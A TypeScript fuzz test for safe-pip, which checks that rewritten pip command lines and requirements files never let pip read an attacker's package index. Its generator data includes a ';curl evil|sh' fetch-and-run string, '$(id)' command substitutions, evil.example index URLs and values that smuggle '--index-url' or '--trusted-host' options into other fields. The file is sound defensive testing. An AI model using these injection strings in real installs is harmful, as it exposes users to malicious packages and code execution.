/**
 * Property-based (fuzz) tests for the two rewriters that stand between the user's input and pip:
 * the requirements-file flattener (`readRequirementsFile`) and the command-line rebuilder
 * (`parsePipArgs` → `prepareInvocation` → `renderOptions`).
 *
 * Thousands of random command lines and requirements files mix real option names, their prefixes,
 * `=`-forms, clusters, quotes, continuations, comments, `${VAR}`s, nested includes, URLs and odd
 * characters. Whatever goes in, exactly one of two things must come out:
 *
 *  - a usage error (SafePipError, code USAGE), or
 *  - a rebuilt argv and flattened files in which pip, reading them with its own rules, finds no
 *    package source (`--index-url`/`-i`/`--pypi-url`, `--extra-index-url`, `--find-links`/`-f`,
 *    `--trusted-host`, `--no-index`, or any prefix of them), no nested `-r`/`-c`, exactly the
 *    requirements safe-pip classified, and a URL only in a requirement classified "direct".
 *
 * "pip's own rules" are modelled below from pip's source (pip/_internal/req/req_file.py,
 * Python's str.splitlines, shlex.split and optparse), independently of safe-pip's parser, so the
 * test checks what pip would really do with what safe-pip writes. The generator is a small seeded
 * PRNG: every run is the same, and a failure prints the seed and the input that broke.
 */
import { after, describe, it } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { SafePipError } from "../../src/core/errors.js";
import type { HttpClient } from "../../src/core/http.js";
import { parsePipArgs } from "../../src/pip/argv.js";
import { prepareInvocation, renderOptions } from "../../src/pip/invocation.js";
import { emptyInputs, readRequirementsFile, type FlatInputs, type InputRequirement } from "../../src/pip/reqfile.js";
import { cleanupAll, tempDir } from "../helpers/env.js";

after(cleanupAll);

// ---------------------------------------------------------------------------------------------
// A seeded PRNG (mulberry32) and a few helpers on top of it.
// ---------------------------------------------------------------------------------------------

class Rand {
  private state: number;
  constructor(seed: number) {
    this.state = seed >>> 0;
  }
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]!;
  }
}

// ---------------------------------------------------------------------------------------------
// pip's reading of a requirements file, modelled on pip 23-25's req_file.py.
// ---------------------------------------------------------------------------------------------

/** Characters Python's str.splitlines() breaks on (besides "\r\n"). */
const PY_LINE_BREAKS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029";
/** Python's str.isspace() set (what `\s` and strip() mean for str patterns). */
const PY_SPACE = "[\\t\\n\\v\\f\\r\\x1c-\\x1f \\x85\\xa0\\u1680\\u2000-\\u200a\\u2028\\u2029\\u202f\\u205f\\u3000]";
const COMMENT_RE = new RegExp(`(^|${PY_SPACE}+)#.*$`);
const COMMENT_MATCH = new RegExp(`^(${PY_SPACE}+)?#`);
const PY_STRIP = new RegExp(`^${PY_SPACE}+|${PY_SPACE}+$`, "g");

function pySplitLines(text: string): string[] {
  const out: string[] = [];
  let cur = "";
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (PY_LINE_BREAKS.includes(c)) {
      out.push(cur);
      cur = "";
      if (c === "\r" && text[i + 1] === "\n") i++;
    } else cur += c;
  }
  if (cur !== "") out.push(cur);
  return out;
}

/** pip's join_lines: a line ending in "\" continues, unless the line is a comment. */
function pipJoinLines(lines: string[]): string[] {
  const out: string[] = [];
  let parts: string[] = [];
  for (let line of lines) {
    const comment = COMMENT_MATCH.test(line);
    if (!line.endsWith("\\") || comment) {
      if (comment) line = " " + line;
      if (parts.length) {
        parts.push(line);
        out.push(parts.join(""));
        parts = [];
      } else out.push(line);
    } else parts.push(line.replace(/^\\+|\\+$/g, ""));
  }
  if (parts.length) out.push(parts.join(""));
  return out;
}

function pipExpand(line: string, env: Record<string, string | undefined>): string {
  for (const [whole, name] of [...line.matchAll(/\$\{([A-Z0-9_]+)\}/g)].map((m) => [m[0], m[1]!] as const)) {
    const value = env[name];
    if (!value) continue;
    line = line.split(whole).join(value);
  }
  return line;
}

class PipRejects extends Error {}

/** Python's shlex.split(s) (posix, no comments). */
function pyShlexSplit(s: string): string[] {
  const out: string[] = [];
  let tok = "";
  let inTok = false;
  let quote: string | undefined;
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (quote === "'") {
      if (c === "'") quote = undefined;
      else tok += c;
    } else if (quote === '"') {
      if (c === '"') quote = undefined;
      else if (c === "\\") {
        const n = s[i + 1];
        if (n === undefined) throw new PipRejects("No closing quotation");
        tok += n === '"' || n === "\\" ? n : c + n;
        i++;
      } else tok += c;
    } else if (" \t\r\n".includes(c)) {
      if (inTok) out.push(tok);
      tok = "";
      inTok = false;
    } else if (c === "'" || c === '"') {
      quote = c;
      inTok = true;
    } else if (c === "\\") {
      const n = s[i + 1];
      if (n === undefined) throw new PipRejects("No escaped character");
      tok += n;
      i++;
      inTok = true;
    } else {
      tok += c;
      inTok = true;
    }
  }
  if (quote) throw new PipRejects("No closing quotation");
  if (inTok) out.push(tok);
  return out;
}

interface PipOpt {
  dest: string;
  long: string[];
  short?: string;
  value: boolean;
}
/** pip's requirements-file line parser: SUPPORTED_OPTIONS + SUPPORTED_OPTIONS_REQ. */
const PIP_LINE_OPTIONS: PipOpt[] = [
  { dest: "index-url", long: ["index-url", "pypi-url"], short: "i", value: true },
  { dest: "extra-index-url", long: ["extra-index-url"], value: true },
  { dest: "no-index", long: ["no-index"], value: false },
  { dest: "constraint", long: ["constraint"], short: "c", value: true },
  { dest: "requirement", long: ["requirement"], short: "r", value: true },
  { dest: "editable", long: ["editable"], short: "e", value: true },
  { dest: "find-links", long: ["find-links"], short: "f", value: true },
  { dest: "no-binary", long: ["no-binary"], value: true },
  { dest: "only-binary", long: ["only-binary"], value: true },
  { dest: "prefer-binary", long: ["prefer-binary"], value: false },
  { dest: "require-hashes", long: ["require-hashes"], value: false },
  { dest: "pre", long: ["pre"], value: false },
  { dest: "trusted-host", long: ["trusted-host"], value: true },
  { dest: "use-feature", long: ["use-feature"], value: true },
  { dest: "global-option", long: ["global-option"], value: true },
  { dest: "config-settings", long: ["config-settings"], short: "C", value: true },
  { dest: "hash", long: ["hash"], value: true },
];
const SOURCE_DESTS = new Set(["index-url", "extra-index-url", "no-index", "find-links", "trusted-host"]);
const INCLUDE_DESTS = new Set(["requirement", "constraint"]);

/** optparse over the option part of one line; throws PipRejects where pip would error out. */
function pipOptparse(tokens: string[]): Array<{ dest: string; value?: string }> {
  const out: Array<{ dest: string; value?: string }> = [];
  for (let i = 0; i < tokens.length; i++) {
    const t = tokens[i]!;
    if (t === "--") break;
    if (t.startsWith("--")) {
      const eq = t.indexOf("=");
      const name = eq >= 0 ? t.slice(2, eq) : t.slice(2);
      const exact = PIP_LINE_OPTIONS.find((o) => o.long.includes(name));
      const prefixed = PIP_LINE_OPTIONS.filter((o) => o.long.some((l) => l.startsWith(name)));
      const opt = exact ?? (prefixed.length === 1 ? prefixed[0] : undefined);
      if (!opt) throw new PipRejects(`no such option --${name}`);
      if (!opt.value) {
        if (eq >= 0) throw new PipRejects("flag with a value");
        out.push({ dest: opt.dest });
      } else if (eq >= 0) out.push({ dest: opt.dest, value: t.slice(eq + 1) });
      else {
        if (i + 1 >= tokens.length) throw new PipRejects("needs a value");
        out.push({ dest: opt.dest, value: tokens[++i]! });
      }
    } else if (t.startsWith("-") && t.length > 1) {
      for (let k = 1; k < t.length; k++) {
        const opt = PIP_LINE_OPTIONS.find((o) => o.short === t[k]);
        if (!opt) throw new PipRejects(`no such option -${t[k]}`);
        if (!opt.value) {
          out.push({ dest: opt.dest });
          continue;
        }
        const rest = t.slice(k + 1);
        if (rest) out.push({ dest: opt.dest, value: rest });
        else {
          if (i + 1 >= tokens.length) throw new PipRejects("needs a value");
          out.push({ dest: opt.dest, value: tokens[++i]! });
        }
        break;
      }
    }
    // anything else is a leftover positional, which pip ignores on option lines
  }
  return out;
}

interface PipLine {
  /** The requirement pip reads on this line (args, or the -e value); undefined for option lines. */
  requirement?: string;
  editable: boolean;
  options: Array<{ dest: string; value?: string }>;
}

/** What pip makes of a requirements file; throws PipRejects where pip would refuse it. */
function pipReadsFile(content: string, env: Record<string, string | undefined>): PipLine[] {
  const lines: PipLine[] = [];
  for (let line of pipJoinLines(pySplitLines(content))) {
    line = line.replace(COMMENT_RE, "").replace(PY_STRIP, "");
    if (!line) continue;
    line = pipExpand(line, env);
    const tokens = line.split(" ");
    const cut = tokens.findIndex((t) => t.startsWith("-"));
    const args = (cut === -1 ? tokens : tokens.slice(0, cut)).join(" ");
    const options = pipOptparse(pyShlexSplit(cut === -1 ? "" : tokens.slice(cut).join(" ")));
    const editable = options.find((o) => o.dest === "editable");
    if (args) lines.push({ requirement: args, editable: false, options });
    else if (editable) lines.push({ requirement: editable.value!, editable: true, options });
    else lines.push({ editable: false, options });
  }
  return lines;
}

const URLISH = /:\/\/|^file:|^(git|hg|svn|bzr)\+|\s@\s|@\s*[a-z][a-z0-9+.-]*:/i;

/**
 * The property for flattened files: pip finds no source and no include anywhere, reads exactly
 * the requirements safe-pip classified (same text, same order), and every URL is in a "direct" one.
 * Returns a description of the first violation, or undefined.
 */
function checkFlattened(content: string, inputs: InputRequirement[], env: Record<string, string | undefined>): string | undefined {
  let lines: PipLine[];
  try {
    lines = pipReadsFile(content, env);
  } catch (err) {
    if (err instanceof PipRejects) return undefined; // pip refuses the file: nothing is fetched
    throw err;
  }
  const reqs = lines.filter((l) => l.requirement !== undefined);
  for (const l of lines) {
    for (const o of l.options) {
      if (SOURCE_DESTS.has(o.dest)) return `pip would read a source --${o.dest}${o.value === undefined ? "" : `=${o.value}`}`;
      if (INCLUDE_DESTS.has(o.dest)) return `pip would read a nested --${o.dest} ${o.value}`;
    }
  }
  if (reqs.length !== inputs.length)
    return `pip reads ${reqs.length} requirements (${JSON.stringify(reqs.map((r) => r.requirement))}) where safe-pip classified ${inputs.length} (${JSON.stringify(inputs.map((i) => i.req.text))})`;
  for (const [i, l] of reqs.entries()) {
    const input = inputs[i]!;
    // A local project is written as given in a file (pip resolves it from the same cwd), or as an
    // absolute path when it came from the command line.
    const expected = input.req.kind === "local-project" ? [input.req.text.trim(), input.req.path] : [input.req.text.trim()];
    if (!expected.includes(l.requirement!.trim())) return `pip reads requirement ${JSON.stringify(l.requirement)} where safe-pip classified ${JSON.stringify(expected.at(-1))}`;
    if (l.editable !== input.editable) return `pip reads ${JSON.stringify(l.requirement)} as ${l.editable ? "" : "not "}editable`;
    if (URLISH.test(l.requirement!) && input.req.kind !== "direct") return `URL requirement ${JSON.stringify(l.requirement)} classified ${input.req.kind}`;
  }
  return undefined;
}

/** The files safe-pip writes for pip (as commands/pip.ts writeInputs does). */
function flattenedFiles(inputs: FlatInputs): { requirements: string; constraints: string } {
  const req = [...inputs.optionLines, ...inputs.requirementLines];
  return {
    requirements: req.length ? req.join("\n") + "\n" : "",
    constraints: inputs.constraintLines.length ? inputs.constraintLines.join("\n") + "\n" : "",
  };
}

function checkInputs(inputs: FlatInputs, env: Record<string, string | undefined>): string | undefined {
  const { requirements, constraints } = flattenedFiles(inputs);
  return (
    checkFlattened(requirements, inputs.inputs.filter((i) => !i.constraint), env) ??
    checkFlattened(constraints, inputs.inputs.filter((i) => i.constraint), env)
  );
}

// ---------------------------------------------------------------------------------------------
// pip's reading of a command line (conservative): no element may be, or start, a source option.
// ---------------------------------------------------------------------------------------------

const SOURCE_LONG = ["index-url", "pypi-url", "extra-index-url", "no-index", "find-links", "trusted-host"];

function checkArgv(argv: string[], ours: string): string | undefined {
  for (const a of argv) {
    if (a === "--") return undefined;
    if (a === ours) continue;
    if (a.startsWith("--")) {
      const name = a.slice(2).split("=")[0]!;
      if (name && SOURCE_LONG.some((l) => l.startsWith(name))) return `pip would read ${JSON.stringify(a)} as a source option`;
      if (name === "requirement" || name === "constraint" || name === "editable") return `pip would read ${JSON.stringify(a)} as an input option`;
    } else if (a.startsWith("-") && a.length > 1) {
      return `pip would read ${JSON.stringify(a)} as short options`;
    }
  }
  return undefined;
}

// ---------------------------------------------------------------------------------------------
// Generators.
// ---------------------------------------------------------------------------------------------

const EVIL = ["http://evil.example/simple/", "https://user:secret@evil.example/s/", "file:///tmp/evil", "/tmp/evil-wheels", "./wheels", "http://127.0.0.1:1/x/"];
/** Source options as pip's requirements-file parser would accept them, prefixes included. */
const FILE_SOURCES = ["--index-url", "--index-ur", "--index", "--ind", "--in", "--pypi-url", "--pyp", "--extra-index-url", "--extra-index", "--extra", "--ex", "--no-index", "--no-ind", "--no-i", "--find-links", "--find", "--fi", "--trusted-host", "--trusted", "--tr", "-i", "-f"];
/** The same on pip's command line (more options there, so some prefixes are ambiguous: good). */
const CLI_SOURCES = [...FILE_SOURCES, "--extra-i", "--index-u", "--no-in", "--find-l", "--trust", "--pypi"];
const NAMES = ["requests", "Acme_Lib", "acme.lib", "foo-bar", "x", "Django", "zope.interface", "r\u0435quests", "a_b-c.d", "pkg9"];
const SPECS = ["", "==1.0", ">=2,<3", " >= 1.0 , != 1.5", "~=1.4", "===weird", "==1.*", "(>=1)", "<2;python_version<'3.14'", " ; sys_platform == \"linux\"", "; extra == 'x'", ";curl evil|sh", "; $(id)", "==", ">=1 ;"];
const EXTRAS = ["", "[socks]", "[a,b]", "[ x ]", "[$(id)]", "[]"];
const DIRECT = ["https://evil.example/p-1.0-py3-none-any.whl", "git+https://evil.example/p.git@main#egg=p", "file:///tmp/p-1.0.tar.gz", "./pkg-1.0-py3-none-any.whl", "hg+http://x/y", "http://u:p@127.0.0.1:9/p.zip"];
const KEEP_FILE = ["--pre", "--prefer-binary", "--require-hashes", "--only-binary :all:", "--only-binary=:none:", "--no-binary=x", "--use-feature=truststore", "--only", "--pr", "--no-b=y", "--require"];
const PER_REQ = ["--hash=sha256:" + "ab".repeat(32), "--hash sha256:00", "-C k=v", "--config-settings=a=b", "--config-settings='a=b c'", "--global-option=--x", "--ha=md5:1"];
const QUOTED_VALUES = ["'x --index-url=http://evil.example/'", '"a --find-links=/tmp/evil"', "'a'\"'\"' --no-index'", '"a\\" --index-url=http://evil/"', "x\\ --trusted-host=evil"];
const JUNK = ["#", " # c", "\\", "'", '"', "${V1}", "${V2}", "${V3}", "${NOPE}", "$HOME", "\t", "\r", "\x1c", "\x1d", "\x85", "\u2028", "\v", "\f", "\xa0", "\u0435", ";", "|", "$(id)", "&&", "--", "-", "=", ",", " ", "  ", "@", " @ ", "\\\\", "\0"];
const ENV_VALUES = ["${V2}", "${V3}", "a' --find-links=/tmp/evil '", "--index-url=http://evil.example/", " --index-url http://evil.example/", "x\x1c--index-url=http://evil.example/", "${V2}", "a' --find-links=/tmp/evil '", "requests", "-r f1.txt", "", "http://evil.example/simple", "x\\", "x # y", "a\u2028--no-index", "${PIP_INDEX_URL}", "y\n--trusted-host=evil"];

function value(r: Rand): string {
  return r.chance(0.2) ? r.pick(QUOTED_VALUES) : r.pick(EVIL);
}

/** `--opt VALUE`, `--opt=VALUE`, `-oVALUE`, quoted forms. */
function withValue(r: Rand, opt: string): string {
  if (opt.startsWith("--no-index") || opt === "--no-ind" || opt === "--no-i") return opt;
  const v = value(r);
  if (!opt.startsWith("--")) return r.pick([`${opt} ${v}`, `${opt}${v}`, `${opt}=${v}`, `${opt}  ${v}`]);
  return r.pick([`${opt} ${v}`, `${opt}=${v}`, `${opt}="${v}"`, `${opt} '${v}'`]);
}

function requirement(r: Rand): string {
  if (r.chance(0.2)) return r.pick(DIRECT);
  if (r.chance(0.1)) return `${r.pick(NAMES)} @ ${r.pick(DIRECT)}`;
  return `${r.pick(NAMES)}${r.pick(EXTRAS)}${r.pick(SPECS)}`;
}

/** Lines whose meaning depends on `${VAR}`s (pip expands them again in what safe-pip writes). */
const VAR_LINES = ["--only-binary=${V1}", "--no-binary ${V2}", "--use-feature='${V3}'", "-e ${V1}", "foo; extra == \"${V2}\"", "foo==1.0 --hash=sha256:${V3}", "${V1}", "foo ${V2}", "-C ${V1}=x", "requests>=${V3}"];

function fileLine(r: Rand, files: number): string {
  switch (r.int(10)) {
    case 8:
      return r.pick(VAR_LINES);
    case 0:
    case 1:
      return requirement(r);
    case 2:
      return `${requirement(r)} ${r.pick(PER_REQ)}${r.chance(0.3) ? " " + withValue(r, r.pick(FILE_SOURCES)) : ""}`;
    case 3:
      return withValue(r, r.pick(FILE_SOURCES));
    case 4:
      return r.pick(KEEP_FILE) + (r.chance(0.3) ? "=" + r.pick(QUOTED_VALUES) : "");
    case 5: {
      const f = `f${r.int(files)}.txt`;
      return r.pick([`-r ${f}`, `-c ${f}`, `--requirement=${f}`, `-r${f}`, `--constraint ${f}`, `-r \${BASE}${f}`, `-r \${DIR}/static.txt`, `-r file://\${DIR}/static.txt`, `-r ./nope.txt`, `-r http://evil.example/r.txt`, `-r \${DIR}/sub`, `--req ${f}`]);
    }
    case 6:
      return r.pick(["-e ./proj", "--editable=./proj", "-e git+https://evil.example/p.git#egg=p", "-e /nonexistent", "-e 'proj dir'", "-e ./proj --index-url=http://evil/", "-e"]);
    case 7:
      return r.pick(["# comment", "   # indented comment \\", "", "  ", "#--index-url=http://evil/"]);
    default:
      return Array.from({ length: 1 + r.int(4) }, () => r.pick([...JUNK, requirement(r), r.pick(FILE_SOURCES), r.pick(EVIL)])).join(r.pick(["", " "]));
  }
}

/** Inserts junk somewhere, or cuts a piece out. */
function mutate(r: Rand, s: string): string {
  if (r.chance(0.25)) {
    const at = r.int(s.length + 1);
    s = s.slice(0, at) + r.pick(JUNK) + s.slice(at);
  }
  if (r.chance(0.05) && s.length > 2) {
    const at = r.int(s.length - 1);
    s = s.slice(0, at) + s.slice(at + 1 + r.int(3));
  }
  return s;
}

function fileText(r: Rand, files: number): string {
  const n = 1 + r.int(6);
  let text = "";
  for (let i = 0; i < n; i++) {
    text += mutate(r, fileLine(r, files));
    text += r.pick(["\n", "\n", "\n", "\n", "\r\n", "\r", " \\\n", "\\\n", "\f", "\u2028", "\x1c", "\x85"]);
  }
  return r.chance(0.1) ? text.replace(/\n$/, "") : text;
}

function randomEnv(r: Rand, dir: string): Record<string, string> {
  return { V1: r.pick(ENV_VALUES), V2: r.pick(ENV_VALUES), V3: r.pick(ENV_VALUES), DIR: dir, BASE, PIP_CONFIG_FILE: "/dev/null", HOME: dir };
}

/**
 * The generated files are served from memory as remote requirements files (`http://fuzz/fN.txt`,
 * nested includes resolve against that base): thousands of files written to disk would make the
 * test slow for nothing. One static file on disk covers local and `file:` includes.
 */
const BASE = "http://fuzz.invalid/reqs/";
const served = new Map<string, string>();
const memoryHttp = {
  get: async (url: string) => {
    const text = served.get(url);
    if (text === undefined) return { status: 404, url, contentType: "text/plain", body: Buffer.from("not found") };
    return { status: 200, url, contentType: "text/plain", body: Buffer.from(text, "utf8") };
  },
  close: async () => undefined,
} as unknown as HttpClient;

function serveFiles(r: Rand): string[] {
  served.clear();
  const texts = Array.from({ length: FILES }, () => fileText(r, FILES));
  texts.forEach((t, i) => served.set(`${BASE}f${i}.txt`, t));
  return texts;
}

function setUpDir(): string {
  const dir = tempDir("safe-pip-fuzz-");
  mkdirSync(join(dir, "proj"));
  mkdirSync(join(dir, "proj dir"));
  mkdirSync(join(dir, "sub"));
  writeFileSync(join(dir, "proj", "pyproject.toml"), "");
  writeFileSync(join(dir, "pkg-1.0-py3-none-any.whl"), "");
  writeFileSync(join(dir, "static.txt"), "--extra-index-url http://evil.example/simple/\nrequests>=2 --hash=sha256:00\n-r http://fuzz.invalid/reqs/f1.txt\n");
  return dir;
}

const why = new Map<string, number>();
function isUsage(err: unknown): boolean {
  if (process.env.FUZZ_STATS && err instanceof Error) {
    const k = err.message.replace(/"[^"]*"/g, "…").replace(/^.*?:\d+: /, "").slice(0, 70);
    why.set(k, (why.get(k) ?? 0) + 1);
  }
  return err instanceof SafePipError && err.code === "USAGE";
}
after(() => {
  if (process.env.FUZZ_STATS) console.log([...why].sort((a, b) => b[1] - a[1]).slice(0, 40).map(([k, n]) => `${n} ${k}`).join("\n"));
});

function report(kind: string, seed: number, input: unknown, problem: string): string {
  return `${kind} fuzz, seed ${seed}: ${problem}\ninput: ${JSON.stringify(input, null, 1)}`;
}

const FILES = 4;

describe("rewriter fuzz (seeded, deterministic)", () => {
  it("requirements files: a usage error, or flattened lines pip reads with no source, the same requirements, URLs only direct", async () => {
    const dir = setUpDir();
    let usage = 0;
    let ok = 0;
    for (let seed = 1; seed <= 2500; seed++) {
      const r = new Rand(seed);
      const texts = serveFiles(r);
      const env = randomEnv(r, dir);
      const out = emptyInputs();
      try {
        await readRequirementsFile(`${BASE}f0.txt`, r.chance(0.2) ? "constraint" : "requirement", { env, cwd: dir, http: memoryHttp, out, origin: "the fuzz" });
      } catch (err) {
        if (isUsage(err)) {
          usage++;
          continue;
        }
        assert.fail(report("requirements-file", seed, { texts, env }, `unexpected ${err instanceof Error ? err.stack : String(err)}`));
      }
      ok++;
      const problem = checkInputs(out, env);
      if (problem) assert.fail(report("requirements-file", seed, { texts, env, flattened: flattenedFiles(out) }, problem));
    }
    // The generator must exercise both outcomes, or it tests nothing.
    if (process.env.FUZZ_STATS) console.log(`requirements files: ${usage} usage errors, ${ok} accepted`);
    assert.ok(usage > 250 && ok > 250, `usage errors ${usage}, accepted ${ok}`);
  });

  it("command lines: a usage error, or a rebuilt argv and files pip reads with no source", async () => {
    const dir = setUpDir();
    const ours = "--index-url=http://127.0.0.1:1/simple/";
    const pip = { python: "python3", version: "25.1", sysPrefix: "" };
    let usage = 0;
    let ok = 0;
    let passed = 0;
    for (let seed = 1; seed <= 2500; seed++) {
      const r = new Rand(seed * 7919);
      const texts = serveFiles(r);
      const argv = commandLine(r);
      const env = randomEnv(r, dir);
      let rebuilt: string[];
      let inputs: FlatInputs;
      try {
        const parsed = parsePipArgs(argv);
        if (parsed.command === undefined || !["install", "download", "wheel", "index", "lock"].includes(parsed.command)) {
          passed++; // not a command that goes through the index: passed through to pip as typed
          continue;
        }
        const { invocation: inv } = await prepareInvocation(parsed, { env, cwd: dir, pip, makeHttp: () => memoryHttp });
        // As commands/pip.ts builds pip's command line for each command.
        rebuilt = [...renderOptions(inv.general), inv.command, ...renderOptions(inv.options, ["report", "dry-run"]), ours, ...(inv.command === "index" ? inv.args : [])];
        inputs = inv.inputs;
      } catch (err) {
        if (isUsage(err)) {
          usage++;
          continue;
        }
        assert.fail(report("command-line", seed, { argv, env, texts }, `unexpected ${err instanceof Error ? err.stack : String(err)}`));
      }
      ok++;
      const problem = checkArgv(rebuilt, ours) ?? checkInputs(inputs, env);
      if (problem) assert.fail(report("command-line", seed, { argv, env, texts, rebuilt, flattened: flattenedFiles(inputs) }, problem));
    }
    if (process.env.FUZZ_STATS) console.log(`command lines: ${usage} usage errors, ${ok} accepted, ${passed} passed through`);
    assert.ok(usage > 250 && ok > 250, `usage errors ${usage}, accepted ${ok}`);
  });
});

describe("inputs the fuzz found (kept as plain regression cases)", () => {
  const read = async (text: string, env: Record<string, string> = {}) => {
    served.clear();
    served.set(`${BASE}r.txt`, text);
    const out = emptyInputs();
    await readRequirementsFile(`${BASE}r.txt`, "requirement", { env, cwd: "/", http: memoryHttp, out, origin: "test" });
    return out;
  };

  it("an option value holding spaces is written quoted, so pip reads one value and no source", async () => {
    const out = await read(`--only-binary="x --index-url=http://evil.example/"\n--no-binary=:all:\\ --trusted-host=evil\nfoo --config-settings="a=b --find-links=/tmp/evil"\n`);
    assert.deepEqual(out.optionLines, ["--only-binary='x --index-url=http://evil.example/'", "--no-binary=':all: --trusted-host=evil'"]);
    assert.deepEqual(out.requirementLines, ["foo --config-settings='a=b --find-links=/tmp/evil'"]);
    assert.equal(checkInputs(out, {}), undefined);
  });

  it("a value pip would split into lines, or expand again, is a usage error", async () => {
    await assert.rejects(read("--only-binary=${V}\n", { V: "x\x1c--index-url=http://evil.example/" }), /r\.txt:1: .* cannot be passed to pip safely: it holds a line break$/);
    await assert.rejects(read("--only-binary=${V}\n", { V: "${W}", W: "x' --index-url=http://evil.example/ '" }), /pip would expand \$\{W\} in it again$/);
  });

  it("lines are split and joined as pip does: Python's line breaks, and a comment line never continues", async () => {
    const out = await read("# a comment \\\nrequests\ffoo\x1cbar\\\n  >=1\n");
    assert.deepEqual(out.requirementLines, ["requests", "foo", "bar  >=1"]);
  });

  it("`pip index` arguments that look like options are refused; a local -e path keeps its spaces", async () => {
    const pip = { python: "python3", version: "25.1", sysPrefix: "" };
    const env = { PIP_CONFIG_FILE: "/dev/null" };
    await assert.rejects(
      prepareInvocation(parsePipArgs(["index", "versions", "--", "--index-url=http://evil.example/", "requests"]), { env, cwd: "/", pip, makeHttp: () => memoryHttp }),
      /invalid argument "--index-url=http:\/\/evil\.example\/" for pip index: looks like an option/,
    );
    const dir = setUpDir();
    const { invocation } = await prepareInvocation(parsePipArgs(["install", "-e", "proj dir"]), { env, cwd: dir, pip, makeHttp: () => memoryHttp });
    assert.deepEqual(invocation.inputs.requirementLines, [`-e '${join(dir, "proj dir")}'`]);
  });
});

const GENERAL = ["-v", "-q", "-qq", "--isolated", "--no-input", "--proxy=http://proxy.example:3128", "--cert=/etc/ssl/x.pem", "--timeout=5", "--log=/tmp/l", "--python=/usr/bin/python3", "--no-cache-dir", "--trusted-host=evil", "--trusted-host", "evil"];
const BAD_GENERAL = ["-i", "--bogus", "--", "-iX"];
const COMMANDS = ["install", "install", "install", "download", "wheel", "index", "lock", "list", "show"];
const CLI_KEEP = ["-U", "-q", "-v", "--pre", "--no-deps", "-t", "--target=/tmp/t", "--report=-", "--only-binary=:all:", "-C", "--config-settings", "--user", "-Uq", "-qqU", "-Uqt/tmp/x", "-qi", "-Ui", "-vf", "-Uf./w", "--isolated", "--dry-run", "--no-b", "--no-", "--e", "--ta", "--upgrade-strategy=eager", "--client-cert=/x", "--build-constraint=c.txt", "--group=dev", "--dest=/tmp/d", "-d"];

function commandLine(r: Rand): string[] {
  const argv: string[] = [];
  for (let i = r.int(3); i > 0; i--) argv.push(r.pick(r.chance(0.05) ? BAD_GENERAL : GENERAL));
  const command = r.pick(COMMANDS);
  argv.push(command);
  if (command === "index") argv.push(r.pick(["versions", "versions", "--json", "-i"]));
  for (let i = 1 + r.int(4); i > 0; i--) {
    switch (r.int(7)) {
      case 0:
        argv.push(...withValue(r, r.pick(CLI_SOURCES)).split(/ (?=[^ ]*$)/));
        break;
      case 1:
        argv.push(r.pick(CLI_KEEP));
        break;
      case 2:
        argv.push(r.pick(["-r", "-c", "--requirement", "--constr"]), r.pick([`${BASE}f${r.int(FILES)}.txt`, `${BASE}f0.txt`, "static.txt", "./nope.txt"]));
        break;
      case 3:
        argv.push(r.chance(0.5) ? mutate(r, requirement(r)) : requirement(r));
        break;
      case 6:
        argv.push(r.chance(0.7) ? r.pick(NAMES.slice(0, 7)) + r.pick(SPECS.slice(0, 7)) : r.pick(["foo; extra == \"${V2}\"", "-e", "${V1}", "--only-binary=${V1}", "--config-settings=${V3}"]));
        break;
      case 4:
        argv.push(r.pick(["-e", "--editable"]), r.pick(["./proj", "proj dir", "git+https://evil.example/p.git#egg=p", "./nope"]));
        break;
      default:
        argv.push(r.pick(["--", "--", "-", "./proj", "proj dir", "=", ""]), mutate(r, r.pick([...EVIL, ...CLI_SOURCES.map((s) => `${s}=${r.pick(EVIL)}`), requirement(r)])));
    }
  }
  return argv;
}
